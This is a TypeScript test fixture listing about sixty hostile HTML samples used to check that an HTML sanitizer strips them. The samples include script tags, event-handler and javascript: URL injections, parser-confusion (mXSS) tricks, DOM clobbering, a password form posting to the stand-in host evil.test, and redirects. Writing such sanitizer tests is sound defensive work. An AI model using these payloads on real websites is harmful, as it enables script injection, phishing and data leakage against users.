/** HTML that an attacker might send. Tests clean it, and a browser test shows it in the real page. */
export type HostileCase = { name: string; html: string }

const uuid = '00000000-0000-4000-8000-000000000001'

/**
 * Any script that runs would set `__hit`; anything that loads would ask the host `evil.test`. Behind each case stands a
 * sentence that must stay readable.
 */
export const hostileCases: readonly HostileCase[] = [
  { name: 'a script', html: '<script>__hit=1</script>' },
  { name: 'a script in broken letters', html: '<ScRiPt >__hit=1</sCrIpT\n>' },
  { name: 'a script that is put together by removing', html: '<scr<script>ipt>__hit=1</scr</script>ipt>' },
  { name: 'a script from elsewhere', html: '<script src="https://evil.test/x.js"></script>' },
  { name: 'a module loaded in advance', html: '<link rel="modulepreload" href="https://evil.test/x.js">' },
  { name: 'a picture that fails', html: '<img src=x onerror=__hit=1>' },
  { name: 'a handler behind a slash', html: '<img/src="x"/onerror="__hit=1">' },
  { name: 'a handler behind a line break', html: '<img src="x"\nonerror\n=\n"__hit=1">' },
  { name: 'a picture from elsewhere', html: '<img src="https://evil.test/pixel.png">' },
  { name: 'a picture without its protocol', html: '<img src="//evil.test/pixel.png">' },
  {
    name: 'a set of pictures from elsewhere',
    html: `<img src="/api/picture/${uuid}/960.webp" srcset="https://evil.test/a.png 1x">`,
  },
  {
    name: 'a picture that climbs out of its folder',
    html: `<img src="/api/picture/${uuid}/960.webp/../../../file/${uuid}">`,
  },
  { name: 'a picture that is a script', html: '<img src="javascript:__hit=1">' },
  { name: 'a drawing that is loaded', html: '<svg onload=__hit=1><circle r=9></svg>' },
  { name: 'a drawing with a script', html: '<svg><script>__hit=1</script></svg>' },
  {
    name: 'a drawing with foreign content',
    html: '<svg><foreignObject><img src=x onerror=__hit=1></foreignObject></svg>',
  },
  {
    name: 'a drawing that animates a link',
    html: '<svg><a><animate attributeName=href values="javascript:__hit=1"/><text y=9>a</text></a></svg>',
  },
  { name: 'a drawing that uses another', html: '<svg><use href="https://evil.test/x.svg#a"></use></svg>' },
  {
    name: 'a formula that changes the parser’s mind',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__hit=1&gt;">',
  },
  {
    name: 'a formula with a link',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:__hit=1">a</maction></math>',
  },
  {
    name: 'a form around a formula',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__hit=1>',
  },
  { name: 'a link that is a script', html: '<a href="javascript:__hit=1">a</a>' },
  { name: 'a link with white space in its protocol', html: '<a href="jav&#x09;ascript:__hit=1">a</a>' },
  { name: 'a link with a control character before it', html: '<a href="&#1;javascript:__hit=1">a</a>' },
  {
    name: 'a link in entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__hit=1">a</a>',
  },
  { name: 'a link to written data', html: '<a href="data:text/html,<script>__hit=1</script>">a</a>' },
  { name: 'a link of an old browser', html: '<a href="vbscript:__hit=1">a</a>' },
  {
    name: 'a link that opens this page’s own script',
    html: '<a href="//evil.test" onclick="__hit=1" ping="https://evil.test/p">a</a>',
  },
  { name: 'a frame with a document', html: '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>' },
  { name: 'a frame from elsewhere', html: '<iframe src="https://evil.test/"></iframe>' },
  { name: 'an object', html: '<object data="https://evil.test/x.swf"><param name="src" value="x"></object>' },
  { name: 'an embedded thing', html: '<embed src="https://evil.test/x.swf">' },
  { name: 'a style sheet', html: '<style>@import "https://evil.test/x.css"; body { display: none }</style>' },
  { name: 'a style sheet from elsewhere', html: '<link rel="stylesheet" href="https://evil.test/x.css">' },
  { name: 'a style that loads', html: '<p style="background:url(https://evil.test/x.png)">a</p>' },
  { name: 'a style that covers the page', html: '<p style="position:fixed;inset:0;z-index:9;text-align:center">a</p>' },
  { name: 'a style in comments', html: '<p style="text-align:center;width:expre/**/ssion(__hit=1)">a</p>' },
  {
    name: 'a form that asks for a password',
    html: '<form action="https://evil.test/"><input name="password" autofocus onfocus=__hit=1><button>登录</button></form>',
  },
  {
    name: 'a button that sends elsewhere',
    html: '<button formaction="javascript:__hit=1" autofocus onfocus="__hit=1">a</button>',
  },
  { name: 'details that toggle', html: '<details open ontoggle=__hit=1><summary>a</summary></details>' },
  { name: 'a video that fails', html: '<video><source onerror=__hit=1 src="https://evil.test/x.mp4"></video>' },
  { name: 'sound that fails', html: '<audio src="https://evil.test/x.mp3" onerror=__hit=1 autoplay></audio>' },
  { name: 'a page that moves on', html: '<meta http-equiv="refresh" content="0;url=https://evil.test/">' },
  { name: 'another base for all addresses', html: '<base href="https://evil.test/">' },
  {
    name: 'names that replace the document’s own',
    html: '<img name="getElementById" id="body"><a id="__hit" name="cookie" href="#a">a</a>',
  },
  { name: 'text that leaves a textarea', html: '<textarea></textarea><img src=x onerror=__hit=1></textarea>' },
  { name: 'text that leaves a title', html: '<title><img title="</title><img src=x onerror=__hit=1>"></title>' },
  { name: 'text for browsers without scripts', html: '<noscript><p title="</noscript><img src=x onerror=__hit=1>">' },
  { name: 'a comment that ends early', html: '<!--><img src=x onerror=__hit=1>-->' },
  { name: 'a comment that never ends', html: '<!-- <img src=x onerror=__hit=1>' },
  { name: 'a piece of XML', html: '<![CDATA[<img src=x onerror=__hit=1>]]>' },
  { name: 'an instruction', html: '<?xml-stylesheet href="javascript:__hit=1"?><img src=x onerror=__hit=1>' },
  { name: 'old raw text', html: '<xmp><img src=x onerror=__hit=1></xmp><plaintext>' },
  { name: 'a template', html: '<template><img src=x onerror=__hit=1></template>' },
  { name: 'an element of its own making', html: '<x-evil onclick=__hit=1 is="x-evil">a</x-evil>' },
  {
    name: 'an attribute without an end',
    html: '<a href="https://example.com/" title="<img src=x onerror=__hit=1>">a</a>',
  },
  {
    name: 'letters that look alike',
    html: '<a href="http://ex&#97;mple.com&#x2F;&quot; onmouseover=&quot;__hit=1">a</a>',
  },
  { name: 'very many elements in each other', html: `${'<blockquote>'.repeat(400)}a${'</blockquote>'.repeat(400)}` },
  {
    name: 'a table that lets its content out',
    html: '<table><caption><svg onload=__hit=1></caption><tr><td background="https://evil.test/x.png" onclick=__hit=1>a</td></tr></table>',
  },
  { name: 'a running line', html: '<marquee onstart=__hit=1>a</marquee>' },
]
